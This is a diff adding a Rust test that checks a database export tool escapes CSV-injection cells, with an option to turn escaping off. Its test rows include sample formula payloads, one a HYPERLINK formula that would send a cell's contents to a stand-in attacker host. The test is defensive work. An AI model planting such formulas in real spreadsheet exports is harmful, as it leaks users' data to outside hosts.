@@ -809,3 +809,67 @@ async fn a_read_cannot_make_a_huge_value() {
     assert!(!q.is_error && q.text.contains("1000000"), "{}", q.text);
     assert_eq!(bytes(&dir), before);
 }
+
+/// Rows that a spreadsheet would run as formulas (CSV injection) are exported as text: each such
+/// cell, and a header named like one, starts with `'`; plain numbers, negative ones included, and
+/// other text are written as they are. `escape_formulas: false` writes every cell exactly.
+#[tokio::test]
+async fn an_export_to_csv_escapes_cells_a_spreadsheet_would_run() {
+    let dir = shop();
+    let conn = rusqlite::Connection::open(dir.path().join("shop.db")).unwrap();
+    conn.execute_batch(
+        "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT);
+         INSERT INTO notes (body) VALUES
+           ('=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'), ('@SUM(A1:A9)'), ('+1+1'),
+           ('-2+3'), (char(9) || '=1'), ('-5'), ('-0.25'), ('plain'), ('a=b');",
+    )
+    .unwrap();
+    drop(conn);
+    let t = shop_tools(&dir, 30);
+    let sql = "SELECT id, body AS \"=cmd\" FROM notes ORDER BY id";
+    let e = call(
+        &t,
+        "db_export",
+        json!({"connection": "shop", "sql": sql, "path": "notes.csv", "format": "csv"}),
+    )
+    .await;
+    assert_eq!(e.text, "wrote 9 rows to notes.csv");
+    let written = std::fs::read_to_string(dir.path().join("notes.csv")).unwrap();
+    assert_eq!(
+        written,
+        "id,'=cmd\r\n\
+         1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"\r\n\
+         2,'@SUM(A1:A9)\r\n\
+         3,'+1+1\r\n\
+         4,'-2+3\r\n\
+         5,'\t=1\r\n\
+         6,-5\r\n\
+         7,-0.25\r\n\
+         8,plain\r\n\
+         9,a=b\r\n"
+    );
+
+    let e = call(
+        &t,
+        "db_export",
+        json!({"connection": "shop", "sql": "SELECT body FROM notes WHERE id IN (2, 3) ORDER BY id", "path": "raw.csv", "format": "csv", "escape_formulas": false}),
+    )
+    .await;
+    assert_eq!(e.text, "wrote 2 rows to raw.csv");
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("raw.csv")).unwrap(),
+        "body\r\n@SUM(A1:A9)\r\n+1+1\r\n"
+    );
+    // JSON Lines is read by programs, not spreadsheets: the value is the database's.
+    let e = call(
+        &t,
+        "db_export",
+        json!({"connection": "shop", "sql": "SELECT body FROM notes WHERE id = 2", "path": "n.jsonl", "format": "jsonl"}),
+    )
+    .await;
+    assert!(!e.is_error, "{}", e.text);
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("n.jsonl")).unwrap(),
+        "{\"body\":\"@SUM(A1:A9)\"}\n"
+    );
+}
